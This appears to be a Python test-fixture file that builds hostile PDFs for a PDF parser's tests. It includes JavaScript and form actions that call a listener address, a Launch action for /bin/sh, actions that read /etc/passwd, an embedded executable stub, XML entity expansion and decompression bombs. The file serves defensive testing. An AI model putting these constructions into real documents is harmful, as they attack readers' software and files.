"""name -> PDFs that want to run, fetch, fill memory or never end, beside those of test_hostile."""

import zlib

from tests.documents.pdfs import document, lines, objects, pdf, show, stream

OUTSIDE = b"http://127.0.0.1:9/countershot"
"""Where hostile files point to; the whole-program test puts its own listener's address here."""
WORDS = lines("plain words")
TREE = b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"


def catalog(extra: bytes, more: dict[int, bytes] | None = None) -> bytes:
    made = objects([WORDS]) | {3: b"<< /Type /Catalog /Pages 4 0 R %s >>" % extra}
    return document(made | (more or {}))


def on_page(extra: bytes, more: dict[int, bytes] | None = None, content: bytes = WORDS) -> bytes:
    made = objects([content], b"/MediaBox [0 0 595 842] " + extra)
    return document(made | (more or {}))


def picture(extra: bytes, data: bytes = b"") -> bytes:
    """A page without text that shows one image."""
    made = objects([b"q 500 0 0 700 40 40 cm /I Do Q"])
    made[10] = made[10].replace(b"<< /Font", b"<< /XObject << /I 20 0 R >> /Font")
    made[20] = stream(data, b"/Type /XObject /Subtype /Image " + extra)
    return document(made)


def pattern_in_itself() -> bytes:
    made = objects([b"/Pattern cs /P scn 0 0 500 500 re f " + WORDS])
    made[10] = made[10].replace(b"<< /Font", b"<< /Pattern << /P 20 0 R >> /Font")
    made[20] = stream(
        b"/Pattern cs /P scn 0 0 9 9 re f",
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 9 9] /XStep 1 "
        b"/YStep 1 /Resources << /Pattern << /P 20 0 R >> >>",
    )
    return document(made)


def with_font(font: bytes, more: dict[int, bytes] | None = None) -> bytes:
    return document(objects([WORDS]) | {1: font} | (more or {}))


def squeezed_twice() -> bytes:
    inner = zlib.compress(b" " * (64 << 20), 9)
    data = zlib.compress(inner, 9)
    filters = b"/Filter [/FlateDecode /FlateDecode]"
    return document(objects([b""]) | {11: stream(data, filters)})


def object_stream_bomb() -> bytes:
    data = zlib.compress(b"5 0 " + b" " * (64 << 20) + b"<< >>", 9)
    extra = b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    return document(objects([WORDS]) | {30: stream(data, extra)})


def script(name: bytes) -> bytes:
    return b"<< /Type /Action /S /JavaScript /JS (app.launchURL\\('%s'\\)) >> %% %s" % (
        OUTSIDE,
        name,
    )


def cross_reference_loop() -> bytes:
    good = pdf(WORDS)
    at = good.rfind(b"xref\n0", 0, good.rfind(b"startxref"))
    return good.replace(b"/Root 3 0 R", b"/Root 3 0 R /Prev %d" % at)


TABLE: dict[str, bytes] = {
    "script-on-open": catalog(b"/OpenAction 20 0 R", {20: script(b"open")}),
    "script-by-name": catalog(
        b"/Names << /JavaScript << /Names [(a) 20 0 R] >> >>", {20: script(b"named")}
    ),
    "launch": catalog(b"/OpenAction << /S /Launch /F (/bin/sh) /NewWindow true >>"),
    "opens-an-address": catalog(b"/OpenAction << /S /URI /URI (%s) >>" % OUTSIDE),
    "goes-to-a-file": catalog(b"/OpenAction << /S /GoToR /F (/etc/passwd) /D [0 /Fit] >>"),
    "submits-a-form": on_page(
        b"/AA << /O << /S /SubmitForm /F << /FS /URL /F (%s) >> >> >>" % OUTSIDE
    ),
    "imports-data": on_page(b"/AA << /O << /S /ImportData /F (/etc/passwd) >> >>"),
    "embedded-program": catalog(
        b"/Names << /EmbeddedFiles << /Names [(a.exe) 20 0 R] >> >>",
        {20: b"<< /Type /Filespec /F (a.exe) /EF << /F 21 0 R >> >>", 21: stream(b"MZ" * 500)},
    ),
    "xfa-form": catalog(
        b"/AcroForm << /Fields [] /XFA 20 0 R >>",
        {20: stream(b"<!DOCTYPE x SYSTEM '%s'><xdp:xdp/>" % OUTSIDE)},
    ),
    "stream-outside": document(
        objects([b""])
        | {11: b"<< /Length 0 /F << /FS /URL /F (%s) >> >>\nstream\n\nendstream" % OUTSIDE}
    ),
    "stream-of-a-file": document(
        objects([b""]) | {11: b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"}
    ),
    "image-outside": picture(
        b"/Width 10 /Height 10 /BitsPerComponent 8 /ColorSpace /DeviceGray /F (%s)" % OUTSIDE
    ),
    "metadata-bomb": catalog(
        b"/Metadata 20 0 R",
        {20: stream(b"<!DOCTYPE x [<!ENTITY a 'aaaa'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>",
                    b"/Type /Metadata /Subtype /XML")},
    ),
    "image-of-65535": picture(
        b"/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB", b"x"
    ),
    "image-of-minus-one": picture(
        b"/Width -1 /Height -1 /BitsPerComponent 8 /ColorSpace /DeviceGray", b"x"
    ),
    "jpeg-of-65535": picture(
        b"/Width 65535 /Height 65535 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /DCTDecode",
        bytes.fromhex("ffd8ffc000110801ffffffff03012200021101031101ffd9"),
    ),
    "jpeg2000-header-only": picture(
        b"/Width 60000 /Height 60000 /Filter /JPXDecode",
        bytes.fromhex("0000000c6a5020200d0a870a00000014667479706a703220000000006a703220"),
    ),
    "jbig2-of-nothing": picture(
        b"/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray "
        b"/Filter /JBIG2Decode", bytes.fromhex("00000000300001000000130000ea600000ea60"),
    ),
    "ccitt-without-end": picture(
        b"/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray "
        b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 60000 /Rows 60000 >>",
        b"\x00" * 99,
    ),
    "image-bomb": picture(
        b"/Width 20000 /Height 20000 /BitsPerComponent 8 /ColorSpace /DeviceGray "
        b"/Filter /FlateDecode", zlib.compress(bytes(20000 * 2000), 9),
    ),
    "mask-of-itself": picture(
        b"/Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 20 0 R", b"x"
    ),
    "inline-image-huge": pdf(b"BI /W 99999 /H 99999 /BPC 8 /CS /G ID x EI " + WORDS),
    "pattern-in-itself": pattern_in_itself(),
    "twice-squeezed-bomb": squeezed_twice(),
    "object-stream-bomb": object_stream_bomb(),
    "ascii-hex-without-end": document(
        objects([b""]) | {11: stream(b"41" * 100_000, b"/Filter /ASCIIHexDecode")}
    ),
    "filters-by-the-hundred": document(
        objects([b""]) | {11: stream(b"x", b"/Filter [" + b"/ASCII85Decode " * 500 + b"]")}
    ),
    "cross-reference-loop": cross_reference_loop(),
    "cross-reference-far-away": pdf(WORDS).replace(b"startxref\n", b"startxref\n99999999"),
    "size-of-two-billion": pdf(WORDS).replace(b"/Size ", b"/Size 214748364"),
    "no-trailer": pdf(WORDS).replace(b"trailer", b"trai1er"),
    "root-is-a-number": pdf(WORDS).replace(b"/Root 3 0 R", b"/Root 7"),
    "contents-is-itself": document(objects([b""]) | {11: b"11 0 R"}),
    "contents-by-the-thousand": document(
        objects([b""])
        | {10: b"<< /Type /Page /Parent 4 0 R /MediaBox [0 0 595 842] /Contents [%s] >>"
           % (b"11 0 R " * 20_000), 11: stream(b"q Q")}
    ),
    "parent-of-itself": document(objects([WORDS]) | {4: TREE[:-2] + b"/Parent 4 0 R >>"}),
    "nested-dictionaries": catalog(b"/X " + b"<< /A " * 20_000 + b">> " * 20_000),
    "string-without-end": pdf(b"BT /L 12 Tf (" + b"(" * 50_000),
    "names-of-a-megabyte": pdf(b"/" + b"N" * 1_000_000 + b" Do " + WORDS),
    "unbalanced-restores": pdf(b"Q " * 100_000 + WORDS),
    "annotations-by-the-thousand": on_page(
        b"/Annots [%s]" % (b"20 0 R " * 20_000),
        {20: b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (x) >>"},
    ),
    "popup-of-itself": on_page(
        b"/Annots [20 0 R]",
        {20: b"<< /Type /Annot /Subtype /Popup /Parent 20 0 R /Rect [0 0 9 9] >>"},
    ),
    "outline-of-itself": catalog(
        b"/Outlines 20 0 R",
        {20: b"<< /First 20 0 R /Last 20 0 R /Next 20 0 R /Title (x) >>"},
    ),
    "letters-that-lie": with_font(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 20 0 R >>",
        {20: stream(b"1 beginbfrange <00> <ff> <0041> endbfrange")},
    ),
    "letters-beyond-unicode": with_font(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 20 0 R >>",
        {20: stream(b"1 beginbfrange <00> <ff> <DBFFDFFF> endbfrange")},
    ),
    "letters-by-the-million": with_font(
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 20 0 R >>",
        {20: stream(b"99999999 beginbfrange " + b"<0000> <ffff> <0000> " * 5_000)},
    ),
    "letter-drawn-by-itself": with_font(
        b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs "
        b"<< /a 20 0 R >> /Encoding << /Differences [97 /a] >> /FirstChar 97 /LastChar 97 "
        b"/Widths [9] /Resources << /Font << /L 1 0 R >> >> >>",
        {20: stream(b"BT /L 9 Tf (a) Tj ET")},
    ),
    "turning-marks": pdf(show("\u202e\u2066\u200b终端\u202c", 72, 700)),
    "a-page-and-an-archive": pdf(WORDS) + b"PK\x03\x04" + b"\0" * 99 + b"PK\x05\x06" + b"\0" * 18,
    "a-page-and-markup": pdf(WORDS).replace(
        b"%\xe2\xe3\xcf\xd3", b"%<html><script>alert(1)</script>"
    ),
}  # fmt: skip
